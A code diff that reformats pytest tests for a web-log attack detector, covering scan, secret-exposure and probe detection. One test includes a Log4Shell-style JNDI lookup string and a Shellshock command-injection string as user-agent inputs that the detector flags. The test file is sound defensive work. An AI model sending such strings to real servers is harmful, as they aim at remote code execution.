@@ -32,10 +32,7 @@ def test_twenty_different_refused_paths_are_a_scan_and_nineteen_are_not(status: 
         [request(number, f"/api/a{number}", 401) for number in range(500)],
         [request(number * 60, f"/a{number}", 404) for number in range(200)],
         [request(number, f"/a{number}", 404, f"192.0.2.{number % 200}") for number in range(400)],
-        [
-            request(0, path, 404)
-            for path in ("/favicon.ico", "/robots.txt", "/.well-known/security.txt", "/a.js.map")
-        ],
+        [request(0, path, 404) for path in ("/favicon.ico", "/robots.txt", "/.well-known/security.txt", "/a.js.map")],
         [request(number, f"/static/chunk{number}.js.map", 404) for number in range(60)],
     ],
     ids=[
@@ -93,9 +90,7 @@ def test_a_secret_that_is_served_is_grave() -> None:
     assert (found.severity, found.evidence["served"]) == (Severity.HIGH, True)
 
 
-@pytest.mark.parametrize(
-    ("path", "status"), [("/wp-login.php", 200), ("/wp-admin/", 302), ("/server-status", 403)]
-)
+@pytest.mark.parametrize(("path", "status"), [("/wp-login.php", 200), ("/wp-admin/", 302), ("/server-status", 403)])
 def test_software_that_is_installed_is_no_probe(path: str, status: int) -> None:
     assert not detections([request(0, path, status)])
 
@@ -190,8 +185,7 @@ def test_decoding_goes_two_levels_deep_and_no_further() -> None:
 
 def test_an_attack_in_a_header_is_recognised() -> None:
     events = [
-        parsed(web_line(0, "192.0.2.1", "/", agent=agent))
-        for agent in ("${jndi:ldap://x/a}", "() { :; }; /bin/id")
+        parsed(web_line(0, "192.0.2.1", "/", agent=agent)) for agent in ("${jndi:ldap://x/a}", "() { :; }; /bin/id")
     ]
     (found,) = detections(events)
     assert set(found.evidence["patterns"]) == {"expression injection", "command injection"}
